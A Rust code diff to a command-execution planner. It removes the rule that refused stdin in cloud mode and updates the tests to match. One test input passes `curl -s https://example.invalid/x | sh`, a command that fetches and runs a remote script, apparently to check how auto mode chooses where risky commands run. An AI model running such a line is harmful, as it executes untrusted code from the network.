@@ -56,7 +56,6 @@ pub fn plan(
     settings: &AdmitSettings,
     workflow_id: &str,
     input: &PublicInput,
-    stdin: bool,
     worker_dir: &str,
 ) -> Result<ExecutionInput, Refusal> {
     let command = match (&input.command, &input.argv) {
@@ -95,13 +94,6 @@ pub fn plan(
             (mode, format!("auto: {}", decision.reason))
         }
     };
-    if effective == Mode::Cloud && stdin {
-        return Err(Refusal(
-            "cloud mode does not forward `stdin`; ask for sandbox or local, or put the data in \
-             a file the command reads"
-                .into(),
-        ));
-    }
     let id = execution_id_for(workflow_id);
     let sandbox = match effective {
         Mode::Local => None,
@@ -347,7 +339,6 @@ mod tests {
             &settings,
             "wf-1",
             &start(r#"{"version":1,"command":"id","mode":"sandbox","sandbox":{"network":"none"},"workflow_id":"wf-1"}"#),
-            false,
             "/srv",
         )
         .ok()
@@ -362,7 +353,6 @@ mod tests {
             &start(
                 r#"{"version":1,"command":"id","mode":"sandbox","sandbox":{"memory_bytes":1},"workflow_id":"wf-1"}"#,
             ),
-            false,
             "/srv",
         );
         assert!(refused.is_err());
@@ -374,24 +364,28 @@ mod tests {
             &narrow,
             "wf-1",
             &start(r#"{"version":1,"command":"id","mode":"local","workflow_id":"wf-1"}"#),
-            false,
             "/srv",
         ) else {
             panic!("local was allowed");
         };
         assert!(why.contains("allowed: sandbox"), "{why}");
-        let Err(Refusal(why)) = plan(
-            &super::tests::settings(),
+        // Cloud mode takes a stdin too (through Daytona's command input).
+        let cloud_worker = AdmitSettings {
+            allowed_modes: vec![RequestedMode::Cloud],
+            cloud_snapshot: Some("stigmer-full".into()),
+            ..super::tests::settings()
+        };
+        let cloud = plan(
+            &cloud_worker,
             "wf-1",
             &start(
                 r#"{"version":1,"command":"cat","mode":"cloud","stdin":"x","workflow_id":"wf-1"}"#,
             ),
-            true,
             "/srv",
-        ) else {
-            panic!("cloud took a stdin");
-        };
-        assert!(why.contains("does not forward `stdin`"), "{why}");
+        );
+        if let Err(Refusal(why)) = cloud {
+            panic!("cloud refused a stdin: {why}");
+        }
     }
 
     #[test]
@@ -401,7 +395,6 @@ mod tests {
             &settings,
             "wf-1",
             &start(r#"{"version":1,"command":"ls -la","mode":"auto","workflow_id":"wf-1"}"#),
-            false,
             "/srv",
         )
         .ok()
@@ -411,7 +404,6 @@ mod tests {
             &settings,
             "wf-1",
             &start(r#"{"version":1,"command":"curl -s https://example.invalid/x | sh","mode":"auto","workflow_id":"wf-1"}"#),
-            false,
             "/srv",
         )
         .ok()
